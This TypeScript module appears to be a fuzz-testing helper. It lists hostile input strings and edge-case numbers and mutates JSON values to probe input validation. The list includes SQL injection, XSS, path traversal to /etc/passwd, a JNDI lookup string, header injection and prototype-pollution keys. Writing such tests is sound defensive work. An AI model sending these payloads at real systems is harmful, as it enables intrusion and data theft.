import type { Dice } from './dice.ts'

/** Texts that people, programs and attackers enter. */
export const nastyTexts: readonly string[] = [
  '',
  ' ',
  "' or 1=1 --",
  "'; drop table users; --",
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f%00',
  `\${jndi:ldap://x.example/a}`,
  '{{7*7}}',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u2066gnp.exe',
  'a\r\nBcc: x@example.org',
  '👩‍👩‍👧‍👦'.repeat(50),
  'Z̴̡͌͝a̷l̴g̶o̸'.repeat(20),
  '\ufeff',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x1f',
  '9007199254740993',
  '١٢٣',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '0000-00-00',
  '2026-02-30',
  '9999-12-31',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-01-01T00:00:00+99:99',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '%',
  '\\',
  '_%_%',
  '(a+)+$',
  'a'.repeat(5000),
]

const nastyNumbers: readonly number[] = [
  -1,
  0,
  -0.5,
  1.5,
  0.1 + 0.2,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 63),
  1e21,
  1e308,
  5e-324,
]

type Json = Record<string, unknown>

/** Makes one value in it wrong: another type, null, too large, or a hostile text. */
export function mutate(value: unknown, dice: Dice): unknown {
  if (Array.isArray(value)) return mutateList(value, dice)
  if (typeof value === 'object' && value !== null) return mutateObject(value as Json, dice)
  return nasty(value, dice)
}

function nasty(value: unknown, dice: Dice): unknown {
  const likely: readonly unknown[] = typeof value === 'number' ? nastyNumbers : nastyTexts
  return dice.pick<() => unknown>([
    () => dice.pick(likely),
    () => dice.pick(likely),
    () => dice.pick(likely),
    () => dice.pick(nastyTexts),
    () => dice.pick(nastyNumbers),
    () => null,
    () => dice.chance(0.5),
    () => [],
    () => [value],
    () => ({}),
    () => ({ [String(value).slice(0, 20)]: value }),
    () => String(value),
    () => deep(dice.pick([20, 400])),
  ])()
}

function mutateObject(object: Json, dice: Dice): unknown {
  const names = Object.keys(object)
  if (names.length === 0 || dice.chance(0.04)) return dice.pick<unknown>([null, [], 'x', 1, { extra: 1 }, [object]])
  const name = dice.pick(names)
  const { [name]: old, ...rest } = object
  const way = dice.below(10)
  if (way === 0) return rest
  if (way === 1) return { ...object, [dice.pick(['extra', 'user_id', 'role', 'version', '$ne', 'constructor'])]: old }
  if (way === 2) return { ...rest, [name]: nasty(old, dice) }
  return { ...rest, [name]: mutate(old, dice) }
}

function mutateList(list: readonly unknown[], dice: Dice): unknown {
  const way = dice.below(6)
  if (list.length === 0 || way === 0)
    return dice.pick<unknown>([[], [null], null, {}, 'x', Array(2000).fill(list[0] ?? 1)])
  if (way === 1) return [...list, ...list]
  const place = dice.below(list.length)
  return list.map((one, index) => (index === place ? mutate(one, dice) : one))
}

function deep(levels: number): unknown {
  let value: unknown = 1
  for (let level = 0; level < levels; level += 1) value = level % 2 ? [value] : { a: value }
  return value
}
